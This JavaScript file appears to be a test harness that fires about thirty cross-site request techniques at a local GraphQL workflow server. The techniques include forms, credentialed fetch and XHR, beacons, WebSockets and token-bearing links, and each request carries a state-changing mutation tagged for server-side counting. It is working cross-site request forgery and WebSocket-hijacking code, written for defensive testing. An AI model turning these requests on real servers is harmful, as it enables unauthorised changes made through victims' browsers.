/* Ways in which a page makes a browser ask another server. `target` is host:port of the attacked server. Each attack
   says in its own request which one it is, for the server's side to count, and resolves once the browser has tried. */
'use strict';
const pause = ms => new Promise(done => setTimeout(done, ms));
const add = (tag, attributes) => new Promise(done => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = () => done('loaded');
  element.onerror = () => done('error');
  document.body.append(element);
  setTimeout(() => done('nothing'), 4000);
});
const mutation = name => `mutation { addDynamicPartition(partitionKey: "${name}", partitionsDefName: "session", `
  + 'repositorySelector: {repositoryName: "__repository__", repositoryLocationName: "aaco_pipeline"}) { __typename } }';
const at = (target, name, path = '/graphql') =>
  `http://${target}${path}?attack=${name}&query=${encodeURIComponent(mutation(name))}`;
const asked = async (address, options) => {
  const answer = await fetch(address, options);
  return answer.type === 'opaque' ? 'opaque' : `${answer.status} ${(await answer.text()).slice(0, 40)}`;
};
const form = async (address, method, enctype, where) => {
  const element = Object.assign(document.createElement('form'), { action: address, method, enctype, target: where });
  for (const [name, value] of new URL(address).searchParams) {
    element.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  }
  document.body.append(element);
  element.submit();
  await pause(1500);
  return 'sent';
};
const framed = (name, attributes) => add('iframe', { name, ...attributes });
const popup = async address => {
  const opened = window.open(address, '_blank');
  await pause(1500);
  return opened ? 'opened' : 'blocked';
};
const socket = address => new Promise(done => {
  const opened = new WebSocket(address, 'graphql-ws');
  opened.onerror = () => done('refused');
  opened.onopen = () => {
    opened.send(JSON.stringify({ type: 'connection_init' }));
    const query = 'subscription { locationStateChangeEvents { event { message } } }';
    opened.send(JSON.stringify({ type: 'start', id: '1', payload: { query, variables: {} } }));
  };
  opened.onmessage = message => { opened.close(); done(message.data); };
  setTimeout(() => done('nothing'), 5000);
});
const body = name => JSON.stringify({ query: mutation(name) });
const JSON_TYPE = { 'Content-Type': 'application/json' };
const TEXT_TYPE = { 'Content-Type': 'text/plain' };

const ATTACKS = {
  image: (t, n) => add('img', { src: at(t, n) }),
  script: (t, n) => add('script', { src: at(t, n) }),
  stylesheet: (t, n) => add('link', { rel: 'stylesheet', href: at(t, n) }),
  prefetch: (t, n) => add('link', { rel: 'prefetch', href: at(t, n) }),
  video: (t, n) => add('video', { src: at(t, n), preload: 'auto' }),
  object: (t, n) => add('object', { data: at(t, n) }),
  iframe: (t, n) => framed(n, { src: at(t, n) }),
  iframe_of_the_page: (t, n) => framed(n, { src: `http://${t}/?attack=${n}` }),
  form_get: async (t, n) => { await framed(n, {}); return form(at(t, n), 'get', 'application/x-www-form-urlencoded', n); },
  form_post: async (t, n) => { await framed(n, {}); return form(at(t, n), 'post', 'application/x-www-form-urlencoded', n); },
  form_post_text: async (t, n) => { await framed(n, {}); return form(at(t, n), 'post', 'text/plain', n); },
  form_post_multipart: async (t, n) => { await framed(n, {}); return form(at(t, n), 'post', 'multipart/form-data', n); },
  form_post_new_tab: (t, n) => form(at(t, n), 'post', 'text/plain', '_blank'),
  form_reports_an_asset: (t, n) => form(`http://${t}/report_asset_materialization/report?attack=${n}`, 'post',
    'text/plain', '_blank'),
  fetch_get_no_cors: (t, n) => asked(at(t, n), { mode: 'no-cors', credentials: 'include' }),
  fetch_get_cors: (t, n) => asked(at(t, n), { mode: 'cors', credentials: 'include' }),
  fetch_text_no_cors: (t, n) => asked(at(t, n), { method: 'POST', mode: 'no-cors', credentials: 'include', body: body(n) }),
  fetch_text_cors: (t, n) => asked(at(t, n), { method: 'POST', headers: TEXT_TYPE, credentials: 'include', body: body(n) }),
  fetch_json_cors: (t, n) => asked(at(t, n), { method: 'POST', headers: JSON_TYPE, credentials: 'include', body: body(n) }),
  fetch_json_without_credentials: (t, n) => asked(at(t, n), { method: 'POST', headers: JSON_TYPE, credentials: 'omit', body: body(n) }),
  fetch_reads_server_info: (t, n) => asked(`http://${t}/server_info?attack=${n}`, { credentials: 'include' }),
  xhr_text: (t, n) => new Promise(done => {
    const request = new XMLHttpRequest();
    request.open('POST', at(t, n));
    request.withCredentials = true;
    request.onloadend = () => done(`${request.status}`);
    request.send(body(n));
  }),
  beacon: async (t, n) => { const sent = navigator.sendBeacon(at(t, n), body(n)); await pause(1000); return `${sent}`; },
  event_source: (t, n) => new Promise(done => {
    const source = new EventSource(at(t, n), { withCredentials: true });
    source.onerror = () => { source.close(); done('error'); };
    setTimeout(() => { source.close(); done('nothing'); }, 4000);
  }),
  websocket: (t, n) => socket(`ws://${t}/graphql?attack=${n}`),
  websocket_elsewhere: (t, n) => socket(`ws://${t}/?attack=${n}`),
  tab_get: (t, n) => popup(at(t, n)),
  tab_of_the_page: (t, n) => popup(`http://${t}/?attack=${n}`),
  tab_used_link: (t, n, used) => popup(`http://${t}/?token=${used}`),
  tab_guessed_link: (t, n) => popup(`http://${t}/?token=${'A'.repeat(43)}`),
  iframe_used_link: (t, n, used) => framed(n, { src: `http://${t}/?token=${used}` }),
  fetch_used_link: (t, n, used) => asked(`http://${t}/?token=${used}`, { mode: 'no-cors', credentials: 'include' }),
};

/* Run all attacks at once; what each of them saw, so that none can be left out unnoticed. */
async function attack(target, prefix, stale) {
  const tried = Object.entries(ATTACKS).map(async ([name, one]) => {
    try {
      return [name, `${await one(target, `${prefix}.${name}`, stale)}`];
    } catch (error) {
      return [name, `${error}`];
    }
  });
  return Object.fromEntries(await Promise.all(tried));
}
